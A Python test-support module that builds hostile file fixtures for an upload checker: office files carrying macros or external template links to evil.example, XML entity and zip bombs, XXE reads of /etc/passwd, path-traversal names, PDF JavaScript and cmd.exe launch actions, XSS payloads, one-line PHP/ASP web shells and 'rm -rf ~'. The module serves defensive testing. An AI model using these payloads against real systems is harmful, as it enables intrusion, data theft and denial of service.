"""PDFs, office documents, packed files, programs and pages."""

from __future__ import annotations

import bz2
import gzip
import lzma
import struct
import zipfile
import zlib
from io import BytesIO
from typing import TYPE_CHECKING

from tests.support.hostile.entries import CRASH, DISGUISE, GARBAGE, MEMORY, PROGRAM, SCRIPT, Hostile, a_file
from tests.support.hostile.pictures import HTML, SMALL_ZIP, zeros

if TYPE_CHECKING:
    from collections.abc import Iterator

TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
WORDS = b'<?xml version="1.0"?><w:document xmlns:w="urn:w"><w:body>More trees.</w:body></w:document>'
#: What every DOCX has.
DOCX = {"[Content_Types].xml": TYPES, "word/document.xml": WORDS}
ODT = b"application/vnd.oasis.opendocument.text"


def a_package(parts: dict[str, bytes], *, packed: bool = True, comment: bytes = b"") -> bytes:
    """A zip of parts, with the same times each time."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts.items():
            archive.writestr(
                zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED
            )
        archive.comment = comment
    return out.getvalue()


def a_docx(**more: bytes) -> bytes:
    """A small DOCX; ``__`` in a name stands for a slash, ``_dot_`` for a full stop."""
    parts = {name.replace("__", "/").replace("_dot_", "."): content for name, content in more.items()}
    return a_package(DOCX | parts)


def an_xlsx(parts: dict[str, bytes]) -> bytes:
    """A small XLSX."""
    return a_package({"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<workbook/>", **parts})


def an_odt(parts: dict[str, bytes], kind: bytes = ODT) -> bytes:
    """A small ODT."""
    return a_package({"mimetype": kind, "content.xml": b"<office:document-content/>", **parts})


def relation(kind: str, target: str, mode: str = "External") -> bytes:
    """A relation of a document to a part outside."""
    return (
        f'<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="http://schemas.example/{kind}" '
        f'Target="{target}" TargetMode="{mode}"/></Relationships>'
    ).encode()


def laughs(coding: str = "utf-8") -> bytes:
    """Entities that grow tenfold, nine times over."""
    rows = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY l0 "lol">{rows}]><lolz>&l9;</lolz>'.encode(coding)


def lying(content: bytes, size: int) -> bytes:
    """A zip whose headers say that its last part has `size` bytes."""
    whole = bytearray(content)
    local, central = whole.rindex(b"PK\x03\x04"), whole.rindex(b"PK\x01\x02")
    whole[local + 22 : local + 26] = struct.pack("<I", size)
    whole[central + 24 : central + 28] = struct.pack("<I", size)
    return bytes(whole)


def flagged(content: bytes, flag: int) -> bytes:
    """A zip whose last part has a flag set."""
    whole = bytearray(content)
    local, central = whole.rindex(b"PK\x03\x04"), whole.rindex(b"PK\x01\x02")
    whole[local + 6] |= flag
    whole[central + 8] |= flag
    return bytes(whole)


def offices() -> Iterator[Hostile]:
    """DOCX, XLSX and ODT."""
    docx = a_docx()
    yield a_file("docx-honest", docx, "a.docx", CRASH)
    yield a_file("xlsx-honest", an_xlsx({}), "a.xlsx", CRASH)
    yield a_file("odt-honest", an_odt({}), "a.odt", CRASH)
    macros = {
        "docx-macros": a_docx(word__vbaProject_dot_bin=b"\xd0\xcf\x11\xe0 macros"),
        "docx-activex": a_docx(word__activeX__activeX1_dot_xml=b"<ax/>"),
        "xlsx-macros": an_xlsx({"xl/vbaProject.bin": b"x"}),
        "xlsx-old-macros": an_xlsx({"xl/macrosheets/sheet1.xml": b"<x/>"}),
        "docx-windows-path": a_package(DOCX | {"word\\vbaProject.bin": b"x"}),
        "odt-basic": an_odt({"Basic/Standard/Module1.xml": b"<x/>"}),
        "odt-scripts": an_odt({"Scripts/python/a.py": b"import os"}),
        "docx-exe": a_docx(word__a_dot_exe=b"text"),
        "docx-js": a_docx(word__media__a_dot_js=b"alert(1)"),
    }  # fmt: skip
    for name, content in macros.items():
        yield a_file(name, content, f"{name}.docx", PROGRAM, "office.macros")
    inside = {
        "zip": SMALL_ZIP, "exe": b"MZ\x90\x00" + bytes(40), "ole": b"\xd0\xcf\x11\xe0\xa1\xb1",
        "gzip": gzip.compress(b"x", mtime=0),
        "elf": b"\x7fELF" + bytes(40), "bomb": a_package({"a": bytes(900_000)}), "xz": lzma.compress(b"x"),
    }  # fmt: skip
    for name, content in inside.items():
        yield a_file(
            f"docx-holds-{name}",
            a_docx(word__embeddings__a_dot_bin=content),
            "a.docx",
            PROGRAM,
            "office.inside",
        )
    yield a_file("docx-laughs", a_docx(word__settings_dot_xml=laughs()), "a.docx", MEMORY, "office.entities")
    yield a_file(
        "docx-laughs-16", a_docx(word__settings_dot_xml=laughs("utf-16")), "a.docx", MEMORY, "office.entities"
    )
    yield a_file(
        "docx-laughs-16-be",
        a_docx(word__settings_dot_xml=laughs("utf-16-be")),
        "a.docx",
        MEMORY,
        "office.entities",
    )
    late = b"<!--" + b"x" * 200_000 + b"-->" + laughs()
    yield a_file(
        "docx-late-entities", a_docx(word__settings_dot_xml=late), "a.docx", MEMORY, "office.entities"
    )
    split = b"<!--" + b"x" * (65_536 - 12) + b"-->" + laughs()
    yield a_file(
        "docx-entities-on-the-seam", a_docx(word__settings_dot_xml=split), "a.docx", MEMORY, "office.entities"
    )
    outside = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    yield a_file(
        "xlsx-outside-entity", an_xlsx({"xl/sharedStrings.xml": outside}), "a.xlsx", SCRIPT, "office.entities"
    )
    yield a_file(
        "docx-bomb", lambda: a_docx(word__a_dot_xml=bytes(90_000_000)), "a.docx", MEMORY, "office.bomb"
    )
    many = lambda: an_xlsx({f"xl/media/{n}.bin": bytes(range(256)) * 3_500 for n in range(150)})  # noqa: E731
    yield a_file("xlsx-bomb-in-parts", many, "a.xlsx", MEMORY, "office.bomb")
    yield a_file(
        "docx-lying-small",
        lying(a_docx(word__a_dot_xml=bytes(5_000_000)), 10),
        "a.docx",
        MEMORY,
        "file.broken",
    )
    yield a_file(
        "docx-lying-large", lying(a_docx(word__a_dot_xml=b"x"), 2**31), "a.docx", MEMORY, "file.broken"
    )
    yield a_file(
        "docx-parts",
        lambda: a_docx(**{f"p{n}": b"" for n in range(2_001)}),
        "a.docx",
        MEMORY,
        "office.entries",
    )
    yield a_file("docx-locked", flagged(docx, 1), "a.docx", CRASH, "office.encrypted")
    broken = {
        "comment": a_package(DOCX, comment=HTML),
        "tail": docx + HTML, "cut": docx[:-30], "cut-front": docx[:60], "front": b"PK\x03\x04" + HTML + docx,
        "only-beginning": b"PK\x03\x04", "no-directory": docx[: docx.index(b"PK\x01\x02")],
        "false-sum": docx.replace(zlib.crc32(WORDS).to_bytes(4, "little"), b"\x01\x02\x03\x04"),
        "count": docx[:-14] + b"\x09\x00\x09\x00" + docx[-10:],
        "method": docx.replace(b"\x14\x00\x00\x00\x08\x00", b"\x14\x00\x00\x00\x63\x00"),
        "far-directory": docx[:-6] + b"\xff\xff\xff\x7f" + docx[-2:],
        "64": docx[:-14] + b"\xff" * 12 + docx[-2:],
    }  # fmt: skip
    for name, content in broken.items():
        yield a_file(f"docx-{name}", content, "a.docx", DISGUISE, "file.broken")
    names = {"../../etc/passwd": b"x", "/etc/passwd": b"x", "C:\\x.txt": b"x", "a\x00b": b"x"}
    yield a_file(
        "docx-path",
        a_package(DOCX | names),
        "a.docx",
        DISGUISE,
    )
    other = {
        "zip": SMALL_ZIP, "pptx": a_package({"[Content_Types].xml": TYPES, "ppt/presentation.xml": b"<p/>"}),
        "jar": a_package({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}),
        "epub": an_odt({}, b"application/epub+zip"), "odt-of-nothing": a_package({"mimetype": ODT}),
        "bomb": a_package({"a": bytes(20_000_000)}),
        "docx-without-types": a_package({"word/document.xml": WORDS}),
    }  # fmt: skip
    for name, content in other.items():
        yield a_file(f"zip-{name}", content, "plan.docx", DISGUISE, "file.archive")


def relations() -> Iterator[Hostile]:
    """Documents that lead elsewhere."""
    for kind in ("attachedTemplate", "oleObject", "frame", "image"):
        part = {"word/_rels/settings.xml.rels": relation(kind, "http://evil.example/t.dotm")}
        content = a_package(DOCX | part)
        yield a_file(f"docx-fetches-{kind}", content, "a.docx", PROGRAM, "office.elsewhere")
    hidden = relation("attachedTemplate", "http://evil.example/").replace(b'"External"', b'"&#69;xternal"')
    for name, content in {"by-number": hidden, "in-two-bytes": hidden.decode().encode("utf-16")}.items():
        part = {"word/_rels/settings.xml.rels": content}
        yield a_file(f"docx-fetches-{name}", a_package(DOCX | part), "a.docx", PROGRAM, "office.elsewhere")
    many_relations = {"word/_rels/a.xml.rels": b"<Relationship " * 3_000_000}
    yield a_file("docx-relations", lambda: a_package(DOCX | many_relations), "a.docx", MEMORY, "office.bomb")
    few = {"word/_rels/a.xml.rels": b"<Relationship " * 70_000}
    yield a_file("docx-few-relations", a_package(DOCX | few), "a.docx", MEMORY)
    link = {"word/_rels/document.xml.rels": relation("hyperlink", "http://example.org/")}
    yield a_file(
        "docx-link",
        a_package(DOCX | link),
        "a.docx",
        CRASH,
    )


def a_pdf(*objects: bytes, head: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", tail: bytes = b"") -> bytes:
    """A PDF of some objects."""
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, one) for number, one in enumerate(objects, 1))
    return (
        head
        + body
        + b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"
        + tail
    )


def packed(content: bytes) -> bytes:
    """An object stream, in which objects lie packed."""
    data = zlib.compress(content)
    return b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream" % (
        len(data),
        data,
    )


def pdfs() -> Iterator[Hostile]:
    """PDFs; those that are one are kept, with a word of warning."""
    page = b"<</Type/Catalog/Pages 2 0 R>>"
    kept = {
        "honest": a_pdf(page),
        "script": a_pdf(b"<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>"),
        "hidden-script": a_pdf(b"<</OpenAction<</S/J#61vaScript/#4a#53(app.alert)>>>>"),
        "launch": a_pdf(b"<</OpenAction<</S/Launch/F(cmd.exe)>>>>"),
        "embedded": a_pdf(b"<</Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec>>]>>>>>>"),
        "packed-script": a_pdf(page, packed(b"1 0 <</S/JavaScript/JS(x)>>")),
        "sends": a_pdf(b"<</S/SubmitForm/F(http://evil.example)>>"),
        "elsewhere": a_pdf(b"<</S/GoToR/F(\\\\\\\\evil\\\\a)>>"),
        "form": a_pdf(b"<</AcroForm<</XFA 3 0 R>>>>"), "film": a_pdf(b"<</Subtype/RichMedia>>"),
        "locked": a_pdf(page, tail=b"").replace(b"<</Root", b"<</Encrypt 3 0 R/Root"),
        "packed-noise": a_pdf(page, b"<</Type/ObjStm/Filter/FlateDecode>>\nstream\nnoise\nendstream"),
    }  # fmt: skip
    for name, content in kept.items():
        yield a_file(f"pdf-{name}", content, f"{name}.pdf", SCRIPT)
    bomb = a_pdf(page, *[packed(b"").replace(zlib.compress(b""), zeros(30_000_000))] * 300)
    yield a_file("pdf-bomb", bomb, "bomb.pdf", MEMORY)
    yield a_file("pdf-streams", a_pdf(page, b"/ObjStm stream\n" * 100_000), "many.pdf", MEMORY)
    yield a_file("pdf-hidden-names", lambda: a_pdf(b"/#4a" * 3_000_000), "many.pdf", MEMORY)
    yield a_file("pdf-dictionaries", lambda: a_pdf(b"/ObjStm" * 2_000_000), "many.pdf", MEMORY)
    yield a_file("pdf-names", a_pdf(b"/JS#4a" * 1_000_000), "many.pdf", MEMORY)
    whole = a_pdf(page)
    for name, content in {
        "half": whole[: len(whole) // 2],
        "no-end": whole[:-8],
        "only-beginning": b"%PDF-1.7\n",
    }.items():
        yield a_file(f"pdf-{name}", content, "cut.pdf", GARBAGE, "file.broken")
    yield a_file("pdf-then-zip", whole + SMALL_ZIP, "two.pdf", DISGUISE, "file.two")
    yield a_file("pdf-page", a_pdf(page, head=b"%PDF-1.4 " + HTML), "two.pdf", DISGUISE, "file.two")
    yield a_file("pdf-after-page", HTML + whole, "two.pdf", DISGUISE, "file.script")
    yield a_file("pdf-after-zip", SMALL_ZIP + whole, "two.pdf", DISGUISE, "file.broken")


def foreign() -> Iterator[Hostile]:
    """Programs, packed files, films and old documents, whatever they call themselves."""
    programs = {
        "exe": b"MZ\x90\x00\x03" + bytes(60), "elf": b"\x7fELF\x02\x01\x01" + bytes(60),
        "class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34",
        "mach-o": b"\xcf\xfa\xed\xfe" + bytes(60), "dex": b"dex\n035\x00", "wasm": b"\x00asm\x01\x00\x00\x00",
        "shortcut": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60),
    }  # fmt: skip
    for name, content in programs.items():
        for claim in (f"{name}.bin", "photo.jpg"):
            yield a_file(f"program-{name}-as-{claim}", content, claim, PROGRAM, "file.program")
    archives = {
        "gzip": gzip.compress(b"plan", mtime=0), "bzip2": bz2.compress(b"plan"), "xz": lzma.compress(b"plan"),
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(30), "rar": b"Rar!\x1a\x07\x00" + bytes(30),
        "cab": b"MSCF" + bytes(40),
        "zstd": b"\x28\xb5\x2f\xfd" + bytes(30), "ar": b"!<arch>\n",
        "tar": b"a".ljust(257, b"\x00") + b"ustar\x0000" + bytes(248),
        "empty-zip": b"PK\x05\x06" + bytes(18), "svgz": gzip.compress(b"<svg onload=alert(1)>", mtime=0),
    }  # fmt: skip
    for name, content in archives.items():
        yield a_file(f"archive-{name}", content, f"a.{name}", PROGRAM, "file.archive")
    yield a_file(
        "archive-gzip-bomb",
        lambda: gzip.compress(bytes(100_000_000), mtime=0),
        "a.csv",
        MEMORY,
        "file.archive",
    )
    media = {
        "mp4": b"\x00\x00\x00\x18ftypisom" + bytes(40), "mp3": b"ID3\x04" + bytes(40),
        "ogg": b"OggS\x00" + bytes(40),
        "flac": b"fLaC" + bytes(40), "mkv": b"\x1aE\xdf\xa3" + bytes(40),
        "wav": b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(30),
        "avi": b"RIFF\x24\x00\x00\x00AVI LIST" + bytes(30),
    }  # fmt: skip
    for name, content in media.items():
        yield a_file(f"media-{name}", content, "picture.png", DISGUISE, "file.media")
    for name, content in {
        "doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99),
        "rtf": b"{\\rtf1{\\object\\objemb}}",
    }.items():
        yield a_file(f"old-{name}", content, f"a.{name}", PROGRAM, "file.old_office")
    unknown = {
        "sqlite": b"SQLite format 3\x00", "noise": bytes(range(256)) * 8, "zeros": bytes(5_000),
        "nul-in-text": b"more\x00trees",
        "utf-16-without-mark": "more trees".encode("utf-16-le"), "utf-32": "more trees".encode("utf-32"),
        "escape": b"\x1b[2J\x1b]0;title\x07", "half-utf-8": "绿地".encode()[:-1] + b"\xff\xff\xfe\x80",
    }  # fmt: skip
    for name, content in unknown.items():
        yield a_file(f"unknown-{name}", content, "a.txt", GARBAGE, "file.unknown")
    yield a_file("empty", b"", "a.pdf", CRASH, "file.empty")
    yield a_file("too-large", lambda: b"%PDF-1.7" + bytes(20_000_000), "a.pdf", MEMORY, "file.large")


def pages() -> Iterator[Hostile]:
    """What a browser or a shell runs."""
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
    html = HTML.decode()
    markup = {
        "svg": svg.encode(), "svg-declared": b'<?xml version="1.0"?>' + svg.encode(),
        "svg-after-spaces": b"\n\n\t  " + svg.encode(),
        "svg-after-comment": b"<!-- plan -->" + svg.encode(), "svg-utf-16": svg.encode("utf-16"),
        "svg-utf-16-be": b"\xfe\xff" + svg.encode("utf-16-be"),
        "svg-with-mark": b"\xef\xbb\xbf" + svg.encode(),
        "svg-object": b"<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
        "svg-entity": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
        "html": html.encode(), "html-doctype": b"<!DOCTYPE html>" + HTML,
        "html-utf-16": html.encode("utf-16"),
        "html-with-mark": b"\xef\xbb\xbf" + HTML, "html-utf-7": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "html-capitals": b"<ScRiPt>alert(1)</sCrIpT>", "html-image": b"<img src=x onerror=alert(1)>",
        "xml": b"<?xml version='1.0'?><a/>",
        "xslt": b"<?xml-stylesheet href='javascript:alert(1)'?><x/>",
        "mhtml": b"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>",
        "php": b"<?php system($_GET[0]);", "asp": b"<% Execute(Request(0)) %>",
        "shell": b"#!/bin/sh\nrm -rf ~\n",
        "python": b"#!/usr/bin/env python\nimport os", "batch": b"@echo off\r\ndel *",
        "postscript": b"%!PS-Adobe\n(x) run",
        "registry": b"Windows Registry Editor Version 5.00\n",
        "internet-shortcut": b"[InternetShortcut]\nURL=file://evil/a",
    }  # fmt: skip
    for name, content in markup.items():
        yield a_file(f"page-{name}", content, "plan.txt", SCRIPT, "file.script")
    for claim in ("a.svg", "a.png", "a.jpg", "a.pdf", "a.csv", "a.geojson", "a"):
        yield a_file(f"page-svg-as-{claim}", svg.encode(), claim, SCRIPT, "file.script")
    for ending in (
        "js",
        "mjs",
        "vbs",
        "ps1",
        "bat",
        "hta",
        "sh",
        "desktop",
        "scf",
        "svg",
        "html",
        "php",
        "JS",
        "js.",
        "\u202esj",
    ):
        yield a_file(
            f"words-as-{ending.encode('ascii', 'backslashreplace').decode()}",
            b"var x = 1;\n",
            f"notes.{ending}",
            PROGRAM,
            "file.script" if "\u202e" not in ending else "",
        )
